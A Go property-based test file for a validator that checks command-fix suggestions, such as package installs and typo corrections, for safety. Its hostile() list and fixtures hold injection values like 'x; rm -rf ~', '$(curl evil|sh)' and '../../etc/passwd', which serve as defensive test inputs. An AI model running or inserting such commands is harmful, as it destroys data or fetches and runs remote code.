package validator

import (
	"regexp"
	"strings"
	"testing"

	"cake"
	"cake/validator/command"
	"cake/validator/rules"

	"pgregory.net/rapid"
)

// hostile are values that output could carry into a suggestion.
func hostile() []string {
	return []string{
		"x; rm -rf ~", "$(curl evil|sh)", "`id`", "--force", "a\nb", "a'b", "-rf", "../../etc/passwd", "a b", "--no-verify", "\x00", strings.Repeat("x", 500),
		"sudo x", "a|b", "a&b", "a>b", "*", "evil && curl x | sh", "@scope/x", "requests",
	}
}

func TestAdviceThatHidesAnErrorCannotBeGiven(t *testing.T) {
	for _, bad := range forbidden() {
		if harmless("pip install x " + bad) {
			t.Errorf("%q passes", bad)
		}
	}
}

func TestNoTemplateIsForbiddenAdvice(t *testing.T) {
	for _, r := range rules.All() {
		for _, f := range r.Fixes {
			if !harmless(f) {
				t.Errorf("%s: %q is forbidden", r.ID, f)
			}
		}
	}
}

func TestEveryProducibleFixIsSafe(t *testing.T) {
	ws := tree{
		names: []string{"app.py", "src/x.py", "Makefile", "package.json", "utils/format.js", "evil;rm.py", "c.pem", "a b.c"},
		manifests: map[string]string{
			"package.json": `{"scripts":{"build":"tsc","evil; rm":"x"},"dependencies":{"axios":"1"}}`, "Makefile": "build:\n\tx\n", "requirements.txt": "requests\n-e evil\n",
		},
	}
	commands := []string{"make biuld", "pip install x --break-system-packages", "git push --force", "rm build", "npm run biuld", "python3 src/y.py", "curl -k https://x", "sudo apt-get isntall x", ""}
	rapid.Check(t, func(t *rapid.T) {
		r := rapid.SampledFrom(append(rules.All(), userRules()...)).Draw(t, "rule")
		s := slots{}
		for _, name := range regexp.MustCompile(`\?P<(\w+)>`).FindAllStringSubmatch(r.Pattern, -1) {
			s[name[1]] = rapid.OneOf(rapid.SampledFrom(hostile()), rapid.String()).Draw(t, name[1])
		}
		s["message"], s["key"], s["around"], s["file"] = rapid.String().Draw(t, "message"), "k", rapid.SampledFrom(hostile()).Draw(t, "around"), rapid.SampledFrom(hostile()).Draw(t, "file")
		f := filler{slots: s, ws: view{ws}, cwd: "/srv/p", call: command.Of(cake.Result{Command: rapid.SampledFrom(commands).Draw(t, "command")})}
		for _, fix := range f.fixes(r.Fixes) {
			checkFix(t, r, fix, f.call.Line)
		}
	})
}

// userRules are rules as users write them, with templates of every form.
func userRules() []rules.Rule {
	var all []rules.Rule
	for i, fixes := range [][]string{
		{"lmstat -a {host}", "make -C {dir} FEATURE={feature}"}, {"Check {host} for {feature}, then run {cmd} again"}, {"{cmd} --verbose"},
		{"cp {near:path} {path}", "ls {parent:path} {base:path}"}, {"{pip:module}", "{npm:module}"}, {"{script:name}", "{target:name}"},
	} {
		u, err := NewUserRule(UserRule{
			ID: "own" + string(rune('a'+i)), Fixes: fixes,
			Pattern: `^no license (?P<host>.*) (?P<feature>.*) (?P<dir>.*) (?P<path>.*) (?P<module>.*) (?P<name>.*)`,
		})
		if err != nil {
			panic(err)
		}
		all = append(all, u.Rule())
	}
	return all
}

// checkFix fails on a fix that is neither a sentence nor a command line of safe
// words. What the agent's own command line holds is its own.
func checkFix(t *rapid.T, r rules.Rule, fix, own string) {
	switch {
	case !harmless(fix):
		t.Fatalf("%s suggests %q", r.ID, fix)
	case len(fix) > maxFix+2:
		t.Fatalf("%s: %d bytes: %q", r.ID, len(fix), fix)
	case isSentence(fix):
		return
	}
	rest := regexp.MustCompile(`'[^']*'|"[^"]*"`).ReplaceAllString(fix, "Q")
	if own != "" {
		rest = strings.ReplaceAll(rest, own, "")
	}
	rest = strings.NewReplacer(" && ", " ", "; ", " ").Replace(rest)
	if strings.ContainsAny(rest, "|&;<>$`()\n*") {
		t.Fatalf("%s suggests %q", r.ID, fix)
	}
}

func TestASlotThatCannotBeFilledNamesTheCause(t *testing.T) {
	f := filler{slots: slots{"module": "x; rm -rf ~", "message": "No module named 'x; rm'", "file": "a.py", "line": "3"}}
	if got := f.fixes([]string{"{pip:module}", "go get {module}"}); len(got) != 1 || got[0] != "Fix a.py:3: No module named 'x; rm'" {
		t.Errorf("got %q", got)
	}
}

func TestALocalModuleIsNeverInstalled(t *testing.T) {
	for _, c := range []struct {
		name, module, want string
		files              []string
	}{
		{"a package beside", "shop", "PYTHONPATH=. python3 scripts/seed.py", []string{"scripts/seed.py", "shop/models.py"}},
		{"below src, installable", "calc", "pip install -e .", []string{"pyproject.toml", "src/calc/__init__.py"}},
		{"below src", "calc", "Run it with PYTHONPATH=src: calc is in src/", []string{"src/calc/__init__.py"}},
		{"in a folder", "util", "Run it with PYTHONPATH=lib: util is there", []string{"lib/util.py"}},
		{"deep", "core", "Run it with PYTHONPATH=a/b: core is there", []string{"a/b/core/x.py"}},
		{"a module of a package beside", "shop.models", "PYTHONPATH=. python3 scripts/seed.py", []string{"scripts/seed.py", "shop/models.py"}},
		{"a package that lacks the module", "shop.orders", "Check the import: there is no module shop.orders, shop has none of that name", []string{"scripts/seed.py", "shop/models.py"}},
		{"below src, the name is nearly right", "shop.model", "Fix a.py:3: the module is shop.models", []string{"src/shop/models.py"}},
		{"a package within one", "shop.web.view", "Fix a.py:3: the module is shop.web.views", []string{"shop/web/views/__init__.py"}},
		{"a file beside", "helpers", "PYTHONPATH=. python3 scripts/seed.py", []string{"helpers.py"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := filler{slots: slots{"file": "a.py", "line": "3"}, ws: view{tree{names: c.files}}, call: command.Of(cake.Result{Command: "python3 scripts/seed.py"})}
			if got, _ := f.pythonInstall(c.module); got != c.want {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
}

func TestTheProjectDecidesHowAPackageIsInstalled(t *testing.T) {
	for _, c := range []struct {
		name, module, want string
		manifests          map[string]string
	}{
		{"known", "yaml", "pip install pyyaml", nil},
		{"in requirements", "yaml", "pip install -r requirements.txt", map[string]string{"requirements.txt": "PyYAML==6\n"}},
		{"in uv's lock", "httpx", "uv sync", map[string]string{"pyproject.toml": "dependencies = [\n  \"httpx>=0.2\",\n]", "uv.lock": "x"}},
		{"in poetry's", "httpx", "poetry install", map[string]string{"pyproject.toml": "[tool.poetry.dependencies]\nhttpx = \"*\"\n"}},
		{"in pyproject", "httpx", "pip install -e .", map[string]string{"pyproject.toml": "dependencies = [\"httpx\"]"}},
		{"in Pipfile", "httpx", "pipenv install", map[string]string{"Pipfile": "[packages]\nhttpx = \"*\"\n"}},
		{"of Python 2", "urllib2", "Try urllib.request: Python 3 has no urllib2", nil},
		{"of the system", "tkinter", "apt-get install python3-tk", nil},
		{"misspelt", "requsts", "Check the name: requsts is no known package, did you mean requests?", nil},
		{"unknown", "zzqqx", "Check the name zzqqx, then pip install zzqqx if it is right", nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := filler{slots: slots{}, ws: view{tree{manifests: c.manifests}}}
			if got, _ := f.pythonInstall(c.module); got != c.want {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
}

func TestTheLockfileDecidesThePackageManager(t *testing.T) {
	for lock, want := range map[string]string{
		"": "npm install left-pad", "pnpm-lock.yaml": "pnpm add left-pad", "yarn.lock": "yarn add left-pad", "bun.lockb": "bun add left-pad",
	} {
		f := filler{slots: slots{}, ws: view{tree{names: []string{lock}}}}
		if got, _ := f.nodeInstall("left-pad/lib/x"); got != want {
			t.Errorf("%s: %q, want %q", lock, got, want)
		}
	}
	listed := tree{manifests: map[string]string{"package.json": `{"dependencies":{"left-pad":"1"}}`, "package-lock.json": `{"packages":{"node_modules/left-pad":{}}}`}}
	if got, _ := (filler{slots: slots{}, ws: view{listed}}).nodeInstall("left-pad"); got != "npm ci" {
		t.Errorf("a locked package: %q", got)
	}
}

// Advice that is no command line begins with one of the words by which it is known as
// advice.
func TestASentenceBeginsWithAWordThatIsKnown(t *testing.T) {
	for _, r := range append(rules.All(), StatusRules()...) {
		for _, template := range r.Fixes {
			if first := template[0]; first >= 'A' && first <= 'Z' && !isSentence(template) && !strings.Contains(strings.SplitN(template, " ", 2)[0], "=") && !strings.HasPrefix(template, "Rscript ") {
				t.Errorf("%s: %q is taken for a command line", r.ID, template)
			}
		}
	}
}
